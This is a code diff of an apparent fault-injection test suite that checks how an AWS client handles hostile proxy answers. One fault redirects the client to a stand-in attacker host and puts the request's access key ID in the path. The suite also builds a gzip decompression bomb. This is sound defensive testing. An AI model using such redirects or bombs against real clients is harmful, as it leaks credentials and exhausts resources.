@@ -1,6 +1,6 @@
 import { gzipSync } from 'node:zlib';
 
-import type { Act, Answer, Exchange } from './faultProxy';
+import { type Act, type Answer, type Exchange, signerOf } from './exchange';
 
 /** A fault, how often it strikes, and what must come of it. */
 export interface Fault {
@@ -59,7 +59,7 @@ const error =
 	(code: string, status: number): Act =>
 	(exchange) =>
 		exchange.give(errorOf(exchange, code, status));
-const reset: Act = ({ socket }) => void socket.resetAndDestroy();
+const reset: Act = (exchange) => exchange.reset();
 
 /** AWS answers, and its answer is changed on the way. */
 const changed =
@@ -85,8 +85,12 @@ const head = ({ status, headers }: Answer, more: string): string =>
 
 const redirect =
 	(status: number): Act =>
-	({ give }) =>
-		give({ status, headers: { location: `${evil.url}/stolen` }, body: Buffer.alloc(0) });
+	({ give, request }) =>
+		give({
+			status,
+			headers: { location: `${evil.url}/stolen/${signerOf(request).accessKeyId}` },
+			body: Buffer.alloc(0),
+		});
 
 /** 64 MiB of zeros in 64 kB, made once. */
 let bomb: Buffer | undefined;
@@ -137,7 +141,7 @@ export const FAULTS: readonly Fault[] = [
 		name: 'reset after AWS had done it',
 		act: async (exchange) => {
 			await exchange.forward();
-			void reset(exchange);
+			exchange.reset();
 		},
 		times: 1,
 		expected: 'success',
